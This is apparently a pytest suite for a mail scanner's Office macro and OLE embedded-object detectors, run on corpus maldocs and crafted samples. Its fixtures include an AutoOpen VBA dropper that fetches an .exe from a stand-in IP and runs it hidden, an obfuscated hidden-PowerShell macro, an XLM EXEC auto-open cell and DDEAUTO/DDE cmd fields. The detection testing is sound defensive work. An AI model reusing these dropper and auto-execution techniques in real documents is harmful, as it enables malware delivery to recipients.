"""Office macro analyzer (olevba + mraptor, XLM) and OLE embedded objects, on real and crafted documents."""

from __future__ import annotations

import base64
import io
import logging
import struct
import time
import zipfile
import zlib

import pytest

from coinguard.analyzers.office import OfficeMacros, OleEmbedded
from coinguard.analyzers.office_common import risky_embedded
from coinguard.catalogue import catalogue
from coinguard.findings import Finding, Item
from coinguard.limits import Budget, Limits
from coinguard.sniff import sniff

from helpers import DATA, codes, make_context, read_corpus_sample, run_handler, zip_bytes

MACROS = OfficeMacros()
EMBEDDED = OleEmbedded()


def run(handler: OfficeMacros | OleEmbedded, data: bytes, name: str = "doc") -> tuple[list[Finding], list[Item]]:
    return run_handler(handler, data, name)


def detail(findings: list[Finding], code: str) -> str:
    return next(f.detail for f in findings if f.code == code)


def score(findings: list[Finding]) -> float:
    cat = catalogue()
    return sum(cat[f.code].score for f in findings)


AUTO_EXEC = {"office.vba.macros", "office.vba.autoexec", "office.vba.suspicious", "office.vba.autoexec_exec",
             "office.mraptor.suspicious"}


# -- real documents ------------------------------------------------------------------------------
@pytest.mark.corpus
@pytest.mark.parametrize(
    ("relpath", "expected"),
    [
        ("maldocs/inquest/008e80cd7d9a815774813d9837b4390d7f93c11d1e8ce7081424eb234d5c6fd3.doc.zip", AUTO_EXEC),
        ("maldocs/inquest/02c51604604a7faae0b82aab08d9e3693525454be210b73e76294b4594762c78.docm.zip", AUTO_EXEC),
        ("maldocs/inquest/0742b3b1b39cf9eb9e8a90aeb596797e8da05a504d4c9e12be992b1c742996e0.doc.zip",
         AUTO_EXEC | {"office.vba.stomping", "office.vba.obfuscation"}),
        ("maldocs/inquest/52f0aaff3654110e82586d21b07c8a3de23dc9efb3f4001daf412286282315c0.doc.zip",
         AUTO_EXEC | {"office.vba.stomping"}),
        ("maldocs/inquest/99eb1d90eb5f0d012f35fcc2a7dedd2229312794354843637ebb7f40b74d0809.doc.zip",
         AUTO_EXEC | {"office.vba.obfuscation"}),
        ("maldocs/inquest/ed6701b3be01b5529db4e8196fa6351aa859655ee4c01ea8f67cc8d781424811.xls.zip", AUTO_EXEC),
        ("maldocs/inquest/remit.dotm.zip", AUTO_EXEC),
        ("maldocs/macromilter/Dok1.doc.zip", AUTO_EXEC),
        # a shape whose click action runs the macro (ppaction macro, MS-PPT InteractiveInfoAtom)
        ("maldocs/oletools/sample_with_vba.ppt.zip",
         {"office.vba.macros", "office.vba.autoexec", "office.ppaction_macro"}),
        ("maldocs/inquest/98e4695eb06b12221f09956c4ee465ca5b50f20c0a5dc0550cad02d1d7131526.xls.zip",
         {"office.xlm.macros", "office.xlm.autoexec", "office.xlm.autoexec_exec"}),
        ("maldocs/inquest/05d8a7144a984b5f9530f0f9abe96546cfec0ad2c8cdc213bc733d7e14e750df.xlsm.zip",
         {"office.xlm.macros", "office.xlm.autoexec", "office.xlm.autoexec_exec"}),
        ("maldocs/oletools/excel4_sample_macro.xlsb.zip", {"office.xlm.macros", "office.xlm.autoexec"}),
        ("maldocs/oletools/excel4_sample_macro_excel5_format.xls.zip", {"office.xlm.macros", "office.xlm.autoexec"}),
    ],
)
def test_real_macro_documents(corpus_dir: object, relpath: str, expected: set[str]) -> None:
    findings, children = run(MACROS, read_corpus_sample(relpath))
    assert codes(findings) == expected
    assert [c.name for c in children] == ["<vba>"]
    assert children[0].type == "text" and children[0].role == "extracted"


@pytest.mark.corpus
def test_ta505_details_name_triggers_keywords_and_iocs(corpus_dir: object) -> None:
    findings, children = run(MACROS, read_corpus_sample(
        "maldocs/inquest/52f0aaff3654110e82586d21b07c8a3de23dc9efb3f4001daf412286282315c0.doc.zip"))
    assert "AutoOpen" in detail(findings, "office.vba.autoexec")
    suspicious = detail(findings, "office.vba.suspicious")
    assert "ADODB.Stream" in suspicious and "Microsoft.XMLHTTP" in suspicious
    assert detail(findings, "office.mraptor.suspicious").startswith("flags AWX")
    assert b"Sub" in children[0].data


@pytest.mark.corpus
@pytest.mark.parametrize(
    ("relpath", "expected"),
    [
        ("maldocs/oletools/sample_with_calc_embedded.doc.zip", {"office.embedded_object", "office.package_executable"}),
        ("maldocs/oletools/sample_with_lnk_file.ppt.zip", {"office.embedded_object", "office.package_executable"}),
        ("maldocs/oletools/sample_with_lnk_to_calc.doc.zip", {"office.embedded_object", "office.package_executable"}),
        ("maldocs/strelka/test_pe_object.doc.zip", {"office.embedded_object", "office.package_executable"}),
        ("maldocs/inquest/3b1395f620e428c5f68c6497a2338da0c4f749feb64e8f12e4c5b1288cc57a1c.doc.zip",
         {"office.embedded_object", "office.flash"}),
    ],
)
def test_real_embedded_objects(corpus_dir: object, relpath: str, expected: set[str]) -> None:
    findings, _children = run(EMBEDDED, read_corpus_sample(relpath))
    assert codes(findings) == expected


@pytest.mark.corpus
def test_embedded_calc_exe_is_yielded_with_its_name(corpus_dir: object) -> None:
    findings, children = run(EMBEDDED, read_corpus_sample("maldocs/oletools/sample_with_calc_embedded.doc.zip"))
    assert [c.name for c in children] == ["calc.exe"]
    assert children[0].type == "pe" and children[0].role == "embedded"
    assert "calc.exe" in detail(findings, "office.package_executable")


@pytest.mark.corpus
@pytest.mark.parametrize(
    "relpath",
    [
        "benign/attachments/oletools/harmless-clean.doc",
        "benign/attachments/oletools/harmless-clean.docx",
        "benign/attachments/oletools/harmless-clean.xml",
        "benign/attachments/oletools/embedded-simple-2007.docx",
        "benign/attachments/strelka/test.doc",
        "benign/attachments/strelka/test.docx",
        "benign/attachments/MacroMilter/clean_wordfile.docx",
    ],
)
def test_benign_documents_stay_quiet(corpus_dir: object, relpath: str) -> None:
    data = read_corpus_sample(relpath)
    item = Item(path="b", name="b", data=data, type=sniff(data))
    findings = [f for h in (MACROS, EMBEDDED) if h.applies_to(item) for f in h.handle(item, make_context())
                if isinstance(f, Finding)]
    assert score(findings) <= 4, findings
    assert not any(f.code.startswith("office.vba") for f in findings)


# -- PoC samples shipped in tests/data ------------------------------------------------------------
def test_xlm_macro_sheet_in_xls() -> None:
    findings, children = run(MACROS, (DATA / "oletools_excel4_sample_macro.xls").read_bytes())
    assert codes(findings) == {"office.xlm.macros", "office.xlm.autoexec"}
    assert b"ALERT" in children[0].data


def test_xlm_macro_in_sylk() -> None:
    findings, _ = run(MACROS, (DATA / "oletools_excel4_sample_macro.slk").read_bytes())
    assert codes(findings) == {"office.xlm.macros", "office.xlm.autoexec"}
    assert detail(findings, "office.xlm.autoexec") == "Auto_Open"


def test_vba_source_text_with_autoopen_and_powershell() -> None:
    findings, children = run(MACROS, (DATA / "strelka_test.vba").read_bytes(), "test.vba")
    assert codes(findings) == AUTO_EXEC
    assert "powershell" in detail(findings, "office.vba.suspicious").lower()
    assert "test.bat" in detail(findings, "office.vba.suspicious")
    assert children == []  # plain source text is not re-emitted as a child of itself


def test_vba_in_legacy_encrypted_xls_is_still_visible() -> None:
    # RC4 encryption covers the Workbook stream only; the VBA storage stays readable.
    findings, _ = run(MACROS, (DATA / "oletools_autostart-encrypt-standardpassword.xls").read_bytes())
    assert codes(findings) == {"office.vba.macros", "office.vba.autoexec"}


# -- crafted cases ----------------------------------------------------------------------------------
VBA_DROPPER = b"""Attribute VB_Name = "Module1"
Sub AutoOpen()
    Dim x
    Set x = CreateObject("MSXML2.XMLHTTP")
    x.Open "GET", "http://203.0.113.7/a.exe", False
    Shell Environ("TEMP") & "\\a.exe", vbHide
End Sub
"""


def test_crafted_autoopen_downloader() -> None:
    findings, _ = run(MACROS, VBA_DROPPER, "module.bas")
    assert codes(findings) == AUTO_EXEC
    assert "http://203.0.113.7/a.exe" in detail(findings, "office.vba.suspicious")
    assert "shell" in detail(findings, "office.vba.autoexec_exec")
    assert score(findings) >= 15


def test_crafted_harmless_module_is_only_informational() -> None:
    src = b'Attribute VB_Name = "Report"\nSub FormatTable()\n    Range("A1").Font.Bold = True\nEnd Sub\n'
    findings, _ = run(MACROS, src, "report.bas")
    assert codes(findings) == {"office.vba.macros"}


def test_crafted_split_string_obfuscation() -> None:
    src = (b'Attribute VB_Name = "M"\nSub Document_Open()\n    a = "pow" & "ersh" & "ell -nop -w hidden"\n'
           b"    CallByName Application, \"Run\", VbMethod, a\nEnd Sub\n")
    findings, _ = run(MACROS, src, "m.bas")
    assert "office.vba.obfuscation" in codes(findings)
    assert "powershell" in detail(findings, "office.vba.obfuscation")
    assert "office.vba.autoexec_exec" in codes(findings)


def test_crafted_xlsm_macrosheet_with_auto_open_exec() -> None:
    workbook = (b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<definedNames><definedName name="_xlnm.Auto_Open_x" hidden="1">Macro1!$A$1</definedName>'
                b"</definedNames></workbook>")
    sheet = (b'<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
             b'<sheetData><row><c r="A1"><f>EXEC("cmd /c calc.exe")</f></c></row></sheetData></xm:macrosheet>')
    data = zip_bytes({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": workbook,
                      "xl/macrosheets/sheet1.xml": sheet})
    findings, children = run(MACROS, data, "book.xlsm")
    assert codes(findings) == {"office.xlm.macros", "office.xlm.autoexec", "office.xlm.autoexec_exec"}
    assert "EXEC" in detail(findings, "office.xlm.autoexec_exec")
    assert b'EXEC("cmd /c calc.exe")' in children[0].data


def test_truncated_ole_is_a_parse_error_not_an_exception() -> None:
    data = (DATA / "oletools_excel4_sample_macro.xls").read_bytes()[:2000]
    findings, children = run(MACROS, data, "broken.xls")
    assert codes(findings) == {"office.parse_error"}
    assert children == []
    findings, _ = run(EMBEDDED, data, "broken.xls")
    assert codes(findings) == {"oleobj.parse_error"}


def test_oversized_document_is_skipped() -> None:
    data = (DATA / "oletools_excel4_sample_macro.xls").read_bytes()
    item = Item(path="x", name="x", data=data, type=sniff(data))
    ctx = make_context()
    ctx.budget = Budget(Limits(max_file_bytes=1000))
    assert {f.code for f in MACROS.handle(item, ctx) if isinstance(f, Finding)} == {"office.skipped"}


def test_oletools_output_never_leaks(capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    run(MACROS, (DATA / "oletools_excel4_sample_macro.xls").read_bytes()[:3000], "broken.xls")
    run(MACROS, VBA_DROPPER, "module.bas")
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err == ""
    assert not [r for r in caplog.records if not r.name.startswith("coinguard")]


@pytest.mark.parametrize(
    ("names", "data", "risky"),
    [
        (("invoice.pdf.exe",), None, True),
        (("notes.txt", "C:\\Users\\a\\notes.txt"), b"just text", False),
        (("notes.txt",), b"MZ" + b"\x00" * 200, True),
        (("run.LNK",), None, True),
        (("report.docx",), None, False),
    ],
)
def test_risky_embedded(names: tuple[str, ...], data: bytes | None, risky: bool) -> None:
    assert bool(risky_embedded(names, data)) is risky


WORD_2003_XML = (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
                 b'<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" '
                 b'w:macrosPresent="no"><w:body><w:p><w:r><w:t>Rechnung</w:t></w:r></w:p></w:body></w:wordDocument>')


@pytest.mark.parametrize(("name", "expected"), [("rechnung.doc", {"office.disguised_xml"}), ("report.xml", set())])
def test_word_2003_xml_named_doc_is_disguised(name: str, expected: set[str]) -> None:
    findings, children = run(MACROS, WORD_2003_XML, name)
    assert codes(findings) == expected
    assert children == []


@pytest.mark.corpus
def test_macromilter_rechnung_carrier(corpus_dir: object) -> None:
    inner = read_corpus_sample("maldocs/macromilter/rechnung-postmaster789.zip.zip")  # a plain zip
    with zipfile.ZipFile(io.BytesIO(inner)) as zf:
        name = zf.namelist()[0]
        findings, _ = run(MACROS, zf.read(name), name)
    # MacroMilter's defanged copy: macrosPresent="no", the docSuppData part with the project removed, a blank page
    assert codes(findings) == {"office.disguised_xml", "office.disguised_blank"}


@pytest.mark.parametrize(
    ("body", "blank"),
    [
        (b"", True),
        (b'<w:p><w:r><w:t xml:space="preserve">   </w:t></w:r></w:p><w:p/>', True),
        (b"<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>", True),
        (b"<w:p><w:r><w:t>x</w:t></w:r></w:p>", False),
        (b"<w:p><w:r><w:t>&#160;</w:t></w:r></w:p>", False),  # an entity is counted as something to read
        (b'<w:p><w:r><w:sym w:font="Wingdings" w:char="F04A"/></w:r></w:p>', False),
        (b'<w:p><w:r><w:pict><v:shape><v:imagedata src="wordml://1.png"/></v:shape></w:pict></w:r></w:p>', False),
        (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>', False),
        (b"<w:p><w:r><w:delText>alt</w:delText></w:r></w:p>", False),
    ],
)
def test_blank_word_xml(body: bytes, blank: bool) -> None:
    from coinguard.analyzers.office import blank_word_xml

    doc = (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument '
           b'xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body>' + body
           + b"</w:body></w:wordDocument>")
    assert blank_word_xml(doc) is blank
    findings, _ = run(MACROS, doc, "rechnung.doc")
    assert ("office.disguised_blank" in codes(findings)) is blank
    assert "office.disguised_blank" not in codes(run(MACROS, doc, "rechnung.xml")[0])  # no disguise, no carrier
    # a document past the scan window is never called blank (not all of it was looked at)
    from coinguard.analyzers import office

    assert not blank_word_xml(doc + b" " * (office._ACTIVE_SCAN_BYTES + 1 - len(doc)))
    assert catalogue()["office.disguised_blank"].strength == "strong"


def activemime(payload: bytes) -> bytes:
    """An ActiveMime (MSO) blob as Word puts in MHT/Word 2003 XML: header, data offset at 0x1E, zlib."""
    return b"ActiveMime".ljust(0x1E, b"\x00") + struct.pack("<H", 0x32 - 46) + b"\x00" * 0x12 + zlib.compress(payload)


def wordml_with(extra: bytes, body: bytes = b"") -> bytes:
    return (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
            b'<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" '
            b'xmlns:o="urn:schemas-microsoft-com:office:office" w:macrosPresent="no">' + extra
            + b"<w:body><w:p>" + body + b"<w:r><w:t>Rechnung</w:t></w:r></w:p></w:body></w:wordDocument>")


@pytest.mark.parametrize(
    ("data", "active"),
    [
        # an ActiveMime (editdata.mso) part is the container of a VBA project, even one olevba cannot decode
        (wordml_with(b'<w:docSuppData><w:binData w:name="editdata.mso">'
                     + base64.encodebytes(activemime(b"\xd0\xcf\x11\xe0 not a project"))
                     + b"</w:binData></w:docSuppData>"),
         "ActiveMime"),
        # an embedded OLE object (its compound file in a binData part)
        (wordml_with(b"", b'<w:r><w:pict><w:binData w:name="wordml://03000001.bin">'
                     + base64.encodebytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 40)
                     + b'</w:binData><o:OLEObject Type="Embed" ProgID="Package"/></w:pict></w:r>'),
         "embedded OLE object"),
        # the document itself declares a VBA project (Word writes the flag when it saves one), decodable or not
        (wordml_with(b"").replace(b'w:macrosPresent="no"', b'w:macrosPresent="yes"'), "declared macros"),
        # a DDEAUTO field (Word runs the command when the user accepts the update prompt)
        (wordml_with(b"", b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\windows'
                     b'\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r>'), "DDE field"),
        # the Excel 2003 XML (SpreadsheetML) form: a cell formula that is a DDE link to cmd
        (b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook xmlns:ss="urn:schemas-microsoft-com:'
         b'office:spreadsheet"><Worksheet ss:Name="S"><Table><Row><Cell ss:Formula="=cmd|\'/c calc.exe\'!A1">'
         b'<Data ss:Type="String"></Data></Cell></Row></Table></Worksheet></Workbook>', "DDE field"),
    ],
)
def test_disguised_word_2003_xml_with_an_active_element_is_conclusive(data: bytes, active: str) -> None:
    findings, _ = run(MACROS, data, "rechnung.doc")
    assert {"office.disguised_xml", "office.disguised_active"} <= codes(findings)
    assert active in detail(findings, "office.disguised_active")
    assert catalogue()["office.disguised_active"].strength == "conclusive"
    # the same document under its own .xml name is no disguise: its elements are judged on their own
    assert "office.disguised_active" not in codes(run(MACROS, data, "rechnung.xml")[0])


def test_disguise_alone_is_not_conclusive() -> None:
    # a macro-less Word 2003 XML named .doc: strong (suspicious alone), never conclusive by its name
    findings, _ = run(MACROS, wordml_with(b"<w:docPr><w:attachedTemplate w:val=\"\"/></w:docPr>"), "invoice.doc")
    assert codes(findings) == {"office.disguised_xml"}
    assert catalogue()["office.disguised_xml"].strength == "strong"


def test_activemime_inflation_is_capped() -> None:
    from coinguard.analyzers import office_common

    assert office_common._bounded_mso_extract(activemime(b"\xd0\xcf\x11\xe0 small")) == b"\xd0\xcf\x11\xe0 small"
    bomb = activemime(b"\x00" * (office_common.MAX_ACTIVEMIME_BYTES + 1024))
    assert len(bomb) < 200_000
    with pytest.raises(office_common.ActiveMimeError):
        office_common._bounded_mso_extract(bomb)


def test_mht_with_activemime_bomb_finishes() -> None:
    from coinguard.analyzers import office_common

    bomb = activemime(b"\x00" * (office_common.MAX_ACTIVEMIME_BYTES + 1024))
    mht = (b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
           b"Content-Location: file:///C:/x/editdata.mso\r\nContent-Transfer-Encoding: base64\r\n"
           b"Content-Type: application/x-mso\r\n\r\n" + base64.encodebytes(bomb) + b"\r\n--b--\r\n")
    started = time.monotonic()
    findings, children = run(MACROS, mht, "invoice.doc")
    assert time.monotonic() - started < 10
    assert codes(findings) == {"office.disguised_xml", "office.disguised_active"}
    assert children == []


def test_zip_bomb_member_is_refused_before_olevba_inflates_it() -> None:
    from coinguard.errors import BudgetExceeded

    data = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>",
                      "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 50_000})
    item = Item(path="x.docm", name="x.docm", data=data, type=sniff(data))
    ctx = make_context()
    ctx.budget = Budget(Limits(max_file_bytes=20_000))
    with pytest.raises(BudgetExceeded):
        list(MACROS.handle(item, ctx))


@pytest.mark.parametrize("data", [b"\n" * (1 << 20), b" \n" * (1 << 19), b"\t" * (1 << 20)])
def test_vba_text_hint_is_linear(data: bytes) -> None:
    item = Item(path="t.txt", name="t.txt", data=data, type="text")
    started = time.monotonic()
    assert not MACROS.applies_to(item)
    assert time.monotonic() - started < 1.0


@pytest.mark.corpus
@pytest.mark.parametrize("carrier", ["word2003xml", "mht"])
def test_vba_project_inside_activemime_carriers(corpus_dir: object, carrier: str) -> None:
    # The VBA project of a real dropper, rewrapped in memory the way Word 2003 XML and MHT carry it.
    with zipfile.ZipFile(io.BytesIO(read_corpus_sample("maldocs/inquest/remit.dotm.zip"))) as zf:
        project = zf.read("word/vbaProject.bin")
    blob = base64.encodebytes(activemime(project))
    if carrier == "word2003xml":
        data = (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
                b'<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" '
                b'w:macrosPresent="yes"><w:docSuppData><w:binData w:name="editdata.mso">' + blob
                + b"</w:binData></w:docSuppData><w:body/></w:wordDocument>")
    else:
        data = (b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\n'
                b"Content-Location: file:///C:/x/editdata.mso\r\nContent-Transfer-Encoding: base64\r\n"
                b"Content-Type: application/x-mso\r\n\r\n" + blob + b"\r\n--b--\r\n")
    findings, children = run(MACROS, data, "remit.doc")
    assert codes(findings) == AUTO_EXEC | {"office.disguised_xml", "office.disguised_active"}
    assert detail(findings, "office.disguised_active").startswith("xml.office named .doc with macros") == (
        carrier == "word2003xml")
    assert b"Document_open" in children[0].data


# -- PowerPoint 97-2003 shape actions (click / mouse-over) that run a macro or a program -------------------
def interactive(action: int, mouse_over: bool = False, macro: str = "") -> bytes:
    """An InteractiveInfoInstance container (MS-PPT): InteractiveInfoAtom, then a MacroNameAtom if named."""
    atom = struct.pack("<HHI", 0x0000, 0x0FF3, 16) + struct.pack("<IIBBBBB3x", 0, 0, action, 0, 0, 0, 0)
    if macro:
        text = macro.encode("utf-16-le")
        atom += struct.pack("<HHI", 0x0020, 0x0FBA, len(text)) + text
    return struct.pack("<HHI", 0x001F if mouse_over else 0x000F, 0x0FF2, len(atom)) + atom


def presentation(*records: bytes) -> bytes:
    from analyzers.test_hwp import cfb  # the compound-file writer of the HWP tests

    stream = struct.pack("<HHI", 0x000F, 0x03E8, 0) + b"".join(records)  # a DocumentContainer header, then shapes
    return cfb({"PowerPoint Document": stream, "Current User": b"\x00" * 32})


@pytest.mark.parametrize(
    ("records", "expected", "detail_has"),
    [
        ((interactive(1, mouse_over=True, macro="Module1.Run"),), {"office.ppaction_macro"}, "mouse-over: Module1.Run"),
        ((interactive(1, macro="Go"),), {"office.ppaction_macro"}, "click: Go"),
        ((interactive(2, mouse_over=True),), {"office.ppaction_program"}, "mouse-over"),
        ((interactive(3), interactive(4, mouse_over=True)), set(), ""),  # a jump and a hyperlink: navigation
    ],
)
def test_ppt_shape_actions(records: tuple[bytes, ...], expected: set[str], detail_has: str) -> None:
    data = presentation(*records)
    assert sniff(data) == "ole.ppt"
    findings, _ = run(MACROS, data, "deck.ppt")
    assert codes(findings) & {"office.ppaction_macro", "office.ppaction_program"} == expected
    for f in findings:
        if f.code in expected:
            assert detail_has in f.detail
    if expected == {"office.ppaction_macro"}:
        # no VBA project in this crafted file: the action is strong, not conclusive, until a macro is there
        assert next(f for f in findings if f.code == "office.ppaction_macro").strength == "strong"
    assert catalogue()["office.ppaction_program"].strength == "conclusive"


# -- OLE directories that declare more than the file holds (fuzz finding, issue 10) -----------------
def _ole_with_stream_size(size: int) -> bytes:
    """tests/data's harmless Word 97 document with the size of its first stream entry rewritten."""
    import olefile

    data = bytearray((DATA / "oletools_dde-test-from-office2003.doc").read_bytes())
    ole = olefile.OleFileIO(io.BytesIO(bytes(data)))
    sector = ole.sectorsize
    first_dir = ole.first_dir_sector
    sid = next(i for i, e in enumerate(ole.direntries) if e is not None and e.entry_type == olefile.STGTY_STREAM
               and e.size >= ole.minisectorcutoff)
    ole.close()
    # directory entry sid lives in the directory chain; the first 4 entries of a 512-byte sector are in one
    assert sid < sector // 128, "the test needs the stream entry in the first directory sector"
    offset = 512 + first_dir * sector + sid * 128 + 0x78  # the entry's stream size (low dword)
    data[offset:offset + 4] = struct.pack("<I", size)
    return bytes(data)


def test_stream_larger_than_the_file_is_not_handed_to_olevba(monkeypatch: pytest.MonkeyPatch) -> None:
    from oletools import olevba

    from coinguard.analyzers.office_common import ole_size_problem

    original = (DATA / "oletools_dde-test-from-office2003.doc").read_bytes()
    assert ole_size_problem(original) == ""
    bomb = _ole_with_stream_size(0x60000000)  # 1.5 GB declared in a small file
    assert "declares 1610612736 bytes" in ole_size_problem(bomb)

    def refuse(*_a: object, **_k: object) -> None:
        raise AssertionError("olevba must not parse it")

    monkeypatch.setattr(olevba, "VBA_Parser", refuse)
    findings, _ = run(MACROS, bomb)
    assert codes(findings) == {"office.parse_error"} and "not read with olevba" in findings[0].detail
    assert catalogue()["office.parse_error"].incomplete  # so the verdict is unchecked, never clean
    # the same document inside an OOXML package (olevba opens every OLE member of the zip)
    docm = zip_bytes({"[Content_Types].xml": b"<Types/>", "word/vbaProject.bin": bomb})
    assert "word/vbaProject.bin: OLE stream" in ole_size_problem_of_zip(docm)


def ole_size_problem_of_zip(data: bytes) -> str:
    from coinguard.analyzers.office_common import olevba_input_problem

    item = Item(path="a.docm", name="a.docm", data=data, type="ooxml.word.macro", depth=0)
    return olevba_input_problem(item, make_context())


# -- inline binaries of flat carriers (Word 2003 XML binData, flat OPC binaryData, MHT parts) ----------------
def ole_package(filename: str, payload: bytes) -> bytes:
    """An OLE compound file holding an OLE Package (``\\x01Ole10Native``) that embeds ``payload``."""
    from analyzers.test_hwp import cfb

    name = filename.encode() + b"\x00"
    native = (struct.pack("<H", 2) + name + b"C:\\Users\\a\\" + name + struct.pack("<II", 0x30000, 0)
              + b"C:\\Temp\\" + name + struct.pack("<I", len(payload)) + payload)
    return cfb({"\x01Ole10Native": struct.pack("<I", len(native)) + native})


#: A harmless stand-in for a Windows program: the MZ header, a PE signature, no code.
TINY_PE = b"MZ" + b"\x00" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 64


@pytest.mark.parametrize("name", ["rechnung.doc", "rechnung.xml"])
def test_word_2003_xml_embedded_package_is_extracted_and_graded(name: str) -> None:
    ole = ole_package("invoice.exe", TINY_PE)
    doc = wordml_with(b"", b'<w:r><w:pict><w:binData w:name="wordml://03000001.bin">' + base64.encodebytes(ole)
                      + b'</w:binData><o:OLEObject Type="Embed" ProgID="Package"/></w:pict></w:r>')
    findings, children = run(MACROS, doc, name)
    assert ("office.disguised_active" in codes(findings)) == name.endswith(".doc")
    (child,) = [c for c in children if c.role == "embedded"]
    assert child.name == "03000001.bin" and child.data == ole and child.type.startswith("ole.")
    # the OLE analyzer sees the child and grades what the Package runs, whatever the carrier's name
    found, grandchildren = run(OleEmbedded(), child.data, child.name)
    assert "office.package_executable" in codes(found)
    assert [g.data for g in grandchildren] == [TINY_PE]


def test_flat_opc_embedding_is_extracted_but_its_vba_project_left_to_olevba() -> None:
    ole = ole_package("run.js", b"WScript.Echo('harmless')")
    doc = (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><pkg:package xmlns:pkg='
           b'"http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part pkg:name="/word/vbaProject.bin" '
           b'pkg:contentType="application/vnd.ms-office.vbaProject"><pkg:binaryData>' + base64.encodebytes(b"x" * 64)
           + b'</pkg:binaryData></pkg:part><pkg:part pkg:name="/word/embeddings/oleObject1.bin" pkg:contentType='
           b'"application/vnd.openxmlformats-officedocument.oleObject"><pkg:binaryData>' + base64.encodebytes(ole)
           + b"</pkg:binaryData></pkg:part></pkg:package>")
    _, children = run(MACROS, doc, "report.xml")
    assert [(c.name, c.data) for c in children if c.role == "embedded"] == [("oleObject1.bin", ole)]


def test_mht_parts_are_extracted_activemime_left_to_olevba() -> None:
    ole = ole_package("open.hta", b"<hta:application/>")
    mht = (b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n'
           b"--b\r\nContent-Location: file:///C:/x/doc.htm\r\nContent-Type: text/html\r\n\r\n<html><body>Rechnung"
           b"</body></html>\r\n--b\r\nContent-Location: file:///C:/x/oleObject1.bin\r\n"
           b"Content-Transfer-Encoding: base64\r\nContent-Type: application/x-oleobject\r\n\r\n"
           + base64.encodebytes(ole) + b"\r\n--b\r\nContent-Location: file:///C:/x/editdata.mso\r\n"
           b"Content-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
           + base64.encodebytes(activemime(b"\xd0\xcf\x11\xe0 not a project")) + b"\r\n--b--\r\n")
    findings, children = run(MACROS, mht, "invoice.doc")
    embedded = {c.name: c for c in children if c.role == "embedded"}
    assert sorted(embedded) == ["doc.htm", "oleObject1.bin"]
    assert embedded["doc.htm"].type == "html" and embedded["oleObject1.bin"].data == ole
    assert {"office.disguised_xml", "office.disguised_active"} <= codes(findings)


def test_flat_parts_are_bounded() -> None:
    from coinguard.analyzers.office import MAX_FLAT_PARTS

    many = b"".join(b'<w:binData w:name="wordml://%d.png">' % i + base64.encodebytes(b"\x89PNG\r\n\x1a\n%d" % i)
                    + b"</w:binData>" for i in range(MAX_FLAT_PARTS + 20))
    _, children = run(MACROS, wordml_with(b"", many), "pictures.xml")
    assert len([c for c in children if c.role == "embedded"]) == MAX_FLAT_PARTS
    ctx = make_context()
    ctx.budget = Budget(Limits(max_file_bytes=4))  # each picture is over it: reported, not read
    item = Item(path="p.xml", name="p.xml", data=wordml_with(b"", many), type="xml.office")
    out = list(MACROS.handle(item, ctx))
    assert "container.limit.file_size" in codes(o for o in out if isinstance(o, Finding))
    assert not [o for o in out if isinstance(o, Item) and o.role == "embedded"]


@pytest.mark.parametrize("name", ["rechnung.doc", "rechnung.xml"])
def test_harmless_autoopen_project_in_editdata_mso_quarantines_the_mail(name: str) -> None:
    # oletools' harmless Auto_Open test workbook as the OLE container Word keeps in editdata.mso
    from coinguard.config import parse_config
    from coinguard.scan import ScanContext, scan_message

    from helpers import make_message

    project = (DATA / "oletools_autostart-encrypt-standardpassword.xls").read_bytes()
    doc = (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
           b'<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml" w:macrosPresent="yes">'
           b'<w:docSuppData><w:binData w:name="editdata.mso">' + base64.encodebytes(activemime(project))
           + b"</w:binData></w:docSuppData><w:body/></w:wordDocument>")
    config = parse_config('[dkim]\nnameservers = ["127.0.0.1"]\ndns_port = 9\ndns_timeout_s = 0.3\n')
    verdict = scan_message(make_message(attachments=[(name, doc, "application/msword")]), ScanContext(config=config))
    found = {f.code for f in verdict.findings}
    assert "office.vba.autoexec" in found
    assert ("office.disguised_active" in found) == name.endswith(".doc")
    assert (str(verdict.verdict), str(verdict.action)) == ("malicious", "quarantine"), verdict.basis


@pytest.mark.parametrize("unit", [b'<w:binData w:name="', b"<w:binData " + b"a" * 3000, b'<pkg:part pkg:name="',
                                  b'<pkg:part pkg:name="a">' + b" " * 30])
def test_flat_part_search_is_linear(unit: bytes) -> None:
    from coinguard.analyzers.office import flat_parts

    data = wordml_with(b"", unit * (4 * 1024 * 1024 // len(unit)))
    started = time.monotonic()
    assert list(flat_parts(Item(path="x.xml", name="x.xml", data=data, type="xml.office"))) == []
    assert time.monotonic() - started < 2.0


